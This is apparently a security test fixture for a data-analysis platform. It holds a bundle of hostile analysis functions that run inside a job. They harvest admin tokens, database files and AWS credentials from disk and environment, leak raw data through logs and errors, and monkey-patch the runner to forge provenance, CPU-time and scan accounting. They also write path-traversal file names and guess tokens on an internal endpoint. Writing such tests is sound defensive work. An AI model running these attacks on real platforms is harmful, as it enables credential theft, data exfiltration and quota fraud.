"""A malicious participant's analyses: each tries to get raw data or secrets out, or to forge
its accounting, the way the trust-boundary issue found possible. Uploaded as a code bundle.
"""

ATTACKS = r'''
"""Analyses that attack the platform from inside a job (they run in the runner's process)."""

import glob
import os
import time

import numpy as np


def _raw(data):
    return np.asarray(data.compute())


def _patch_finish(change):
    """Rewrite what the runner writes last, after its own checks (same process, so we can)."""
    import insitu.runtime.runner as runner

    original = runner.finish

    def finish(workspace, outcome, total):
        change(workspace, outcome)
        original(workspace, outcome, total)

    runner.finish = finish


def steal_secrets(data, *, context):
    """Look for the server's admin token, database and other jobs' workspaces."""
    found = {}
    roots = [os.environ.get("INSITU_HOME", ""), os.path.expanduser("~/.insitu")]
    for root in filter(None, roots):
        for path in glob.glob(os.path.join(root, "**", "*"), recursive=True)[:2000]:
            if path.endswith(("admin-token", "insitu.db", ".env")) and os.path.isfile(path):
                try:
                    with open(path, "rb") as handle:
                        found[path] = handle.read(80).decode("latin-1")  # enough for a token
                except OSError:
                    pass
            if len(found) >= 10:
                break
    env = {
        k: v
        for k, v in os.environ.items()
        if "HOME" in k or k.startswith(("INSITU", "AWS_"))
    }
    return {"loot": {"found": found, "env": env, "cwd": os.getcwd()}}


def print_raw(data, *, context):
    """Put the raw selection into the log."""
    raw = _raw(data)
    print(raw.tobytes().hex(), flush=True)
    return {"mean": float(raw.mean())}


def raise_raw(data, *, context):
    """Put the raw selection into the error text."""
    raise ValueError(_raw(data).tobytes().hex())


def rewrite_provenance(data, *, context):
    """Write the raw selection as provenance.json after the runtime checked the cap."""
    raw = _raw(data)

    def change(workspace, outcome):
        workspace.write_bytes("results/provenance.json", raw.tobytes())

    _patch_finish(change)
    return {"mean": float(raw.mean())}


def forge_core_seconds(data, *, context):
    """Claim a negative CPU time, so that the core-hours quota never runs out."""

    def change(workspace, outcome):
        outcome.core_seconds = -1e9

    _patch_finish(change)
    time.sleep(1.5)
    return {"mean": data.mean()}


def forge_scan(data, *, context):
    """Claim a huge scan, so that the fraction-of-scan cap lets the raw selection out."""
    import insitu.runtime.runner as runner

    runner.check_cap = lambda encoded, *args, **kwargs: sum(len(e.data) for e in encoded)

    def change(workspace, outcome):
        outcome.bytes_scanned = 10**15

    _patch_finish(change)
    return {"raw": data}


def forge_names(data, *, context):
    """Write a result file whose name climbs out of the download folder."""
    raw = _raw(data)

    def change(workspace, outcome):
        for name in ("results/provenance.json?/../../../x.npy", "results/..npy"):
            try:
                workspace.write_bytes(name, raw.tobytes()[:100])
            except Exception as exc:  # a store may refuse one of them; try the others
                print("could not write", name, exc)
        outcome.results[0].filename = "provenance.json?/../../../x"

    _patch_finish(change)
    return {"mean": float(raw.mean())}


def seal_own_gateway(data, *, context):
    """Ask the job's store gateway for its counts and to seal itself, as only the server
    may (to freeze the scan count, or to learn how the server meters): guess the token."""
    import urllib.error
    import urllib.request

    endpoint = os.environ.get("INSITU_STORE_ENDPOINT", "http://127.0.0.1:9")
    answers = {}
    for method, path, token in (
        ("GET", "/_insitu/counts", None),
        ("POST", "/_insitu/seal", None),
        ("POST", "/_insitu/seal", "guess"),
        ("POST", "/_insitu/seal", ""),
    ):
        request = urllib.request.Request(endpoint + path, method=method, data=b"")
        if token is not None:
            request.add_header("X-Insitu-Token", token)
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                answers[f"{method} {path} {token!r}"] = response.status
        except urllib.error.HTTPError as exc:
            answers[f"{method} {path} {token!r}"] = exc.code
    return {"answers": answers, "mean": float(_raw(data).mean())}
'''
